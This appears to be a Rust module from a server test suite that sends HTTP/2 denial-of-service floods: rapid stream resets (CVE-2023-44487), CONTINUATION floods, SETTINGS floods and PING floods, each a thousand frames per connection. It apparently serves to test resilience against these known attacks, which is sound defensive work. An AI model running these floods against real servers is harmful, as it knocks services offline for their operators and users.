//! Floods of TLS and HTTP/2, a connection each.

use std::io::{self, Read, Write};
use std::net::TcpStream;

use jackfield_tests::{Secure, http2};

use super::scene::Scene;

/// How many frames one connection sends, if the host lets it.
const FRAMES: u32 = 1_000;

/// A handshake, and nothing more.
pub(super) fn handshake(scene: &Scene, _: &mut Vec<TcpStream>, _: usize) -> io::Result<()> {
    scene.secure().map(|_| ())
}

/// CVE-2023-44487.
pub(super) fn resets(scene: &Scene, _: &mut Vec<TcpStream>, _: usize) -> io::Result<()> {
    let streams = (0..FRAMES).map(|number| 2 * number + 1);
    let frames = streams.flat_map(|stream| [http2::request(stream), http2::reset(stream)]);
    flood(&mut scene.http2()?, frames)
}

/// CVE-2024-27316 and its kin.
pub(super) fn continuations(scene: &Scene, _: &mut Vec<TcpStream>, _: usize) -> io::Result<()> {
    let more = (0..FRAMES).map(|_| http2::more_headers(1, 1_024));
    flood(
        &mut scene.http2()?,
        std::iter::once(http2::open_request(1)).chain(more),
    )
}

/// CVE-2019-9515.
pub(super) fn settings(scene: &Scene, _: &mut Vec<TcpStream>, _: usize) -> io::Result<()> {
    flood(&mut scene.http2()?, (0..FRAMES).map(|_| http2::settings()))
}

/// CVE-2019-9512.
pub(super) fn pings(scene: &Scene, _: &mut Vec<TcpStream>, _: usize) -> io::Result<()> {
    flood(&mut scene.http2()?, (0..FRAMES).map(|_| http2::ping()))
}

/// Sends all of it, and takes what the host says to it.
fn flood(stream: &mut Secure, frames: impl Iterator<Item = Vec<u8>>) -> io::Result<()> {
    let frames: Vec<u8> = frames.flatten().collect();
    stream.write_all(&http2::greeting())?;
    stream.write_all(&frames)?;
    stream.read(&mut [0; 16 * 1024]).map(|_| ())
}
